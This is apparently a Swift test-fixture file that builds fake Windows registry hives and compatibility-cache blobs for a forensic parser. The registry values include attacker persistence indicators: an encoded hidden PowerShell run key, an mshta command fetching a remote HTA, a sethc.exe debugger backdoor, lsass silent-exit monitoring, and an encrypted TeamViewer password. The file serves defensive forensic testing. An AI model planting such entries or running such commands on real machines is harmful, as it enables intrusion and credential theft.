import Pipeline

// Hives with one of each artefact, made in code: what the artefact tests read, and what `samples/` shows. Paths and
// names are made up; commands that look like malware do nothing.

enum HiveSamples {
    static let time: UInt64 = 132_500_000_000_000_000

    static func filetime(_ value: UInt64) -> [UInt8] { little(value, 8) }

    /// A SOFTWARE hive: run keys, a debugger, scheduled tasks, a TeamViewer password.
    static func software() -> KeyNode {
        let root = KeyNode("ROOT")
        let windows = root.key("Microsoft\\Windows\\CurrentVersion")
        windows.key("Run").set(
            ValueNode("SecurityHealth", text: "%windir%\\system32\\SecurityHealthSystray.exe", type: 2),
            ValueNode("Updater", text: "\"C:\\Users\\Public\\Libraries\\updater.exe\" /silent"),
            ValueNode("Sync", text: "powershell.exe -NoP -W Hidden -Enc ZQBjAGgAbwAgAGgAaQA="))
        windows.key("RunOnceEx\\0001").set(ValueNode("1", text: "mshta.exe http://198.51.100.7/a.hta"))
        let nt = root.key("Microsoft\\Windows NT\\CurrentVersion")
        nt.key("Winlogon").set(
            ValueNode("Shell", text: "explorer.exe"),
            ValueNode("Userinit", text: "C:\\Windows\\system32\\userinit.exe,"),
            ValueNode("DefaultUserName", text: "nobody"))
        nt.key("Image File Execution Options\\sethc.exe").set(
            ValueNode("Debugger", text: "C:\\Windows\\System32\\cmd.exe"))
        nt.key("Image File Execution Options\\taskmgr.exe").set(
            ValueNode("Debugger", text: "\"C:\\Tools\\procexp64.exe\""))
        nt.key("Image File Execution Options\\notepad.exe").set(ValueNode("UseFilter", dword: 1))
        nt.key("SilentProcessExit\\lsass.exe").set(ValueNode("MonitorProcess", text: "C:\\ProgramData\\m.exe"))
        let cache = nt.key("Schedule\\TaskCache")
        let info =
            little(3, 4) + filetime(time) + filetime(time + 600_000_000) + little(0, 4)
            + little(0x8007_0002, 4) + filetime(time + 660_000_000)
        cache.key("Tasks\\{11111111-2222-3333-4444-555555555555}").set(
            ValueNode("Path", text: "\\Vendor\\Update"), ValueNode("Version", text: "1.0"),
            ValueNode("DynamicInfo", type: 3, info), ValueNode("Actions", type: 3, actions))
        cache.key("Tasks\\{66666666-7777-8888-9999-AAAAAAAAAAAA}").set(
            ValueNode("Path", text: "\\Hidden"), ValueNode("DynamicInfo", type: 3, Array(info.prefix(28))))
        cache.key("Tree\\Vendor\\Update").set(
            ValueNode("Id", text: "{11111111-2222-3333-4444-555555555555}"), ValueNode("SD", type: 3, [1, 0, 4]))
        cache.key("Tree\\Hidden").set(ValueNode("Id", text: "{66666666-7777-8888-9999-AAAAAAAAAAAA}"))
        // "Demo!Pass9" as UTF-16, filled with zeros to two blocks and encrypted with the published key.
        root.key("Wow6432Node\\TeamViewer\\Version7").set(
            ValueNode("OptionsPasswordAES", type: 3, teamViewerSecret), ValueNode("Version", text: "7.0.43148"))
        return root
    }

    // Version 3: a context, a program with arguments and folder, a COM handler.
    static let actions: [UInt8] = {
        func text(_ text: String) -> [UInt8] {
            little(UInt64(text.utf16.count * 2), 4) + text.utf16.flatMap { little(UInt64($0), 2) }
        }
        return little(3, 2) + text("Author") + little(0x6666, 2) + text("")
            + text("C:\\Windows\\Temp\\update.exe") + text("/q") + text("C:\\Windows") + little(0, 2)
            + little(0x7777, 2) + text("") + (1...16).map { UInt8($0) } + text("data")
    }()

    static let teamViewerSecret: [UInt8] = [
        0x05, 0x62, 0x6E, 0xAC, 0xDB, 0x33, 0xC0, 0x82, 0x0A, 0x13, 0x21, 0xBB, 0xAD, 0x26, 0xF4, 0x0B,
        0xDA, 0x3F, 0x79, 0xF7, 0xD0, 0xBC, 0x5E, 0x87, 0x49, 0x79, 0xB1, 0x7B, 0x68, 0x0E, 0xF7, 0xBC,
    ]

    /// A SYSTEM hive: services, boot execution, the compatibility cache.
    static func system(cache: [UInt8] = ShimCacheSamples.windows10) -> KeyNode {
        let root = KeyNode("ROOT")
        root.key("Select").set(ValueNode("Current", dword: 1), ValueNode("Default", dword: 1))
        let set = root.key("ControlSet001")
        set.key("Control\\Session Manager").set(
            ValueNode("BootExecute", texts: ["autocheck autochk *", "C:\\odd.exe"]))
        set.key("Control\\Session Manager\\AppCompatCache").set(ValueNode("AppCompatCache", type: 3, cache))
        set.key("Control\\Lsa").set(ValueNode("Security Packages", texts: ["kerberos", "msv1_0"]))
        set.key("Services\\Spooler").set(
            ValueNode("Type", dword: 0x110), ValueNode("Start", dword: 2),
            ValueNode("DisplayName", text: "Print Spooler"), ValueNode("ObjectName", text: "LocalSystem"),
            ValueNode("ImagePath", text: "%SystemRoot%\\System32\\spoolsv.exe", type: 2))
        set.key("Services\\Themes").set(
            ValueNode("Type", dword: 0x20), ValueNode("Start", dword: 3),
            ValueNode("ImagePath", text: "%SystemRoot%\\System32\\svchost.exe -k netsvcs", type: 2),
            ValueNode("Description", text: "Provides user experience theme management."))
        set.key("Services\\Themes\\Parameters").set(
            ValueNode("ServiceDll", text: "%SystemRoot%\\system32\\themeservice.dll", type: 2))
        set.key("Services\\WinUpdSvc").set(
            ValueNode("Type", dword: 0x10), ValueNode("Start", dword: 2),
            ValueNode("ImagePath", text: "C:\\Windows\\Temp\\svc.exe -k run"))
        set.key("Services\\BTOBTO").set(
            ValueNode("Type", dword: 0x10), ValueNode("Start", dword: 3),
            ValueNode("ImagePath", text: "%COMSPEC% /C echo hi > C:\\x.txt", type: 2),
            ValueNode("FailureCommand", text: "C:\\Windows\\Temp\\again.exe"))
        set.key("Services\\ACPI").set(ValueNode("Type", dword: 1), ValueNode("Start", dword: 0))
        set.key("Services\\.NET CLR Data\\Performance").set(ValueNode("Library", text: "mscoree.dll"))
        root.key("ControlSet002\\Control")
        return root
    }

    /// A user's hive: run keys, user assist, shellbags, connections of Office.
    static func user() -> KeyNode {
        let root = KeyNode("ROOT")
        let software = root.key("Software\\Microsoft")
        software.key("Windows\\CurrentVersion\\Run").set(
            ValueNode(
                "OneDrive", text: "\"C:\\Users\\demo\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"))
        let assist = software.key(
            "Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count")
        assist.set(
            ValueNode("P:\\Gbbyf\\zvzvxngm.rkr", type: 3, assistData(count: 3, focus: 42_000)),
            ValueNode("HRZR_PGYFRFFVBA", type: 3, [UInt8](repeating: 0, count: 72)))
        software.key("Windows\\CurrentVersion\\Explorer\\UserAssist\\{75048700-EF1F-11D0-9888-006097DEACF9}\\Count")
            .set(
                ValueNode("HRZR_EHACNGU:P:\\Jvaqbjf\\pzq.rkr", type: 3, little(1, 4) + little(9, 4) + filetime(time)))
        let bags = software.key("Windows\\Shell\\BagMRU")
        bags.set(ValueNode("0", type: 3, volume("E:\\")), ValueNode("MRUListEx", type: 3, little(0, 4) + little(-1, 4)))
        let drive = bags.key("0")
        drive.set(
            ValueNode("0", type: 3, folder("TOOLS")), ValueNode("1", type: 3, folder("DATA")),
            ValueNode("MRUListEx", type: 3, little(1, 4) + little(0, 4) + little(-1, 4)))
        drive.key("0").set(ValueNode("0", type: 3, folder("dump")), ValueNode("NodeSlot", dword: 4))
        drive.key("1")
        software.key("Office\\16.0\\Common\\Internet\\Server Cache\\https://docs.example.org/")
        software.key("Office\\16.0\\Common\\Internet\\Server Cache\\http://198.51.100.9/x/")
        root.key("Environment").set(ValueNode("UserInitMprLogonScript", text: "C:\\Windows\\Temp\\logon.bat"))
        return root
    }

    private static func assistData(count: UInt32, focus: UInt32) -> [UInt8] {
        little(0, 4) + little(count, 4) + little(7, 4) + little(focus, 4) + [UInt8](repeating: 0, count: 44)
            + filetime(time) + little(0, 4)
    }

    private static func volume(_ name: String) -> [UInt8] {
        item(0x2F, Array(name.utf8) + [UInt8](repeating: 0, count: 20))
    }

    // Size and time, attributes of a directory, then the short name.
    private static func folder(_ name: String) -> [UInt8] {
        item(0x31, [0] + little(0, 4) + little(0x6A21_52B5, 4) + little(0x10, 2) + Array(name.utf8) + [0, 0])
    }

    private static func item(_ type: UInt8, _ body: [UInt8]) -> [UInt8] {
        little(body.count + 3, 2) + [type] + body + little(0, 2)
    }

    /// An Amcache of Windows 10.
    static func amcache() -> KeyNode {
        let root = KeyNode("{11517B7C-E79D-4E20-961B-75A811715ADD}")
        let files = root.key("Root\\InventoryApplicationFile")
        files.key("rubeus.exe|1a2b").set(
            ValueNode("FileId", text: "0000" + String(repeating: "ab", count: 20)),
            ValueNode("LowerCaseLongPath", text: "c:\\users\\public\\r.exe"), ValueNode("Name", text: "r.exe"),
            ValueNode("OriginalFileName", text: "rubeus.exe"), ValueNode("Publisher", text: ""),
            ValueNode("LinkDate", text: "06/21/2019 14:35:01"), ValueNode("Size", qword: 446_976))
        files.key("7z.exe|3c4d").set(
            ValueNode("FileId", text: "0000" + String(repeating: "0C", count: 20)),
            ValueNode("LowerCaseLongPath", text: "c:\\program files\\7-zip\\7z.exe"),
            ValueNode("ProductName", text: "7-zip"), ValueNode("Publisher", text: "igor pavlov"),
            ValueNode("Size", text: "0x72800"))
        files.key("broken|0").set(ValueNode("Size", qword: 1))
        root.key("Root\\InventoryDriverBinary\\c:/windows/system32/drivers/acpi.sys").set(
            ValueNode("DriverId", text: "0000" + String(repeating: "11", count: 20)),
            ValueNode("DriverName", text: "acpi.sys"), ValueNode("DriverCompany", text: "Microsoft Corporation"),
            ValueNode("DriverTimeStamp", dword: 1_600_000_000), ValueNode("ImageSize", dword: 700_416))
        return root
    }

    /// An Amcache of Windows 8.
    static func oldAmcache() -> KeyNode {
        let root = KeyNode("{11517B7C-E79D-4E20-961B-75A811715ADD}")
        root.key("Root\\File\\d6b97d6c-0000-0000-0000-100000000000\\20000b5c2").set(
            ValueNode("15", text: "C:\\Tools\\wce.exe"),
            ValueNode("101", text: "0000" + String(repeating: "cd", count: 20)),
            ValueNode("0", text: "Editor"), ValueNode("1", text: "Nobody Ltd"), ValueNode("6", dword: 199_168),
            ValueNode("c", text: "An editor"), ValueNode("12", qword: time))
        return root
    }
}

/// The compatibility cache in all its layouts, two entries each.
enum ShimCacheSamples {
    static let paths = ["C:\\Windows\\System32\\cmd.exe", "C:\\Tools\\mimikatz.exe"]
    static let time = HiveSamples.time

    static let xp: [UInt8] = {
        var data = little(0xDEAD_BEEF, 4) + little(2, 4) + [UInt8](repeating: 0, count: 392)
        for path in paths {
            let name = utf16("\\??\\" + path)
            data += name + [UInt8](repeating: 0, count: 528 - name.count)
            data += little(time, 8) + little(1000, 8) + little(time, 8)
        }
        return data
    }()

    static let server2003 = table(magic: 0xBADC_0FFE, header: 8, wide: false, tail: little(302_080, 4) + little(0, 4))
    static let server2003x64 = table(
        magic: 0xBADC_0FFE, header: 8, wide: true, tail: little(302_080, 4) + little(0, 4))
    static let vista = table(magic: 0xBADC_0FFE, header: 8, wide: false, tail: little(2, 4) + little(1, 4))
    static let vistax64 = table(magic: 0xBADC_0FFE, header: 8, wide: true, tail: little(2, 4) + little(1, 4))
    static let seven = table(
        magic: 0xBADC_0FEE, header: 128, wide: false, tail: little(2, 4) + little(1, 4) + little(0, 8))
    static let sevenx64 = table(
        magic: 0xBADC_0FEE, header: 128, wide: true, tail: little(2, 4) + little(1, 4) + little(0, 16))
    static let windows8 = tagged(header: 128, first: 0x80, tag: "00ts", flags: true)
    static let windows81 = tagged(header: 128, first: 0x80, tag: "10ts", flags: true)
    static let windows10 = tagged(header: 0x34, first: 0x34, tag: "10ts", flags: false)
    static let windows10first = tagged(header: 0x30, first: 0x30, tag: "10ts", flags: false)

    // A table of entries, the paths behind it.
    private static func table(magic: UInt32, header: Int, wide: Bool, tail: [UInt8]) -> [UInt8] {
        var data = little(magic, 4) + little(paths.count, 4)
        data += [UInt8](repeating: 0, count: header - data.count)
        let size = (wide ? 24 : 16) + tail.count
        var place = header + size * paths.count
        for path in paths {
            let count = utf16("\\??\\" + path).count
            data += little(count, 2) + little(count + 2, 2)
            data += wide ? little(0, 4) + little(place, 8) : little(place, 4)
            data += little(time, 8) + tail
            place += count + 2
        }
        for path in paths { data += utf16("\\??\\" + path) + [0, 0] }
        return data
    }

    private static func tagged(header: Int, first: UInt32, tag: String, flags: Bool) -> [UInt8] {
        var data = little(first, 4)
        data += [UInt8](repeating: 0, count: header - data.count)
        for path in paths {
            let name = utf16(path)
            var body = little(name.count, 2) + name
            // No package, insertion flags, shim flags.
            if flags { body += little(0, 2) + little(2, 4) + little(0, 4) }
            body += little(time, 8) + little(4, 4) + [1, 0, 0, 0]
            data += Array(tag.utf8) + little(0x1234_5678, 4) + little(body.count, 4) + body
        }
        return data
    }
}
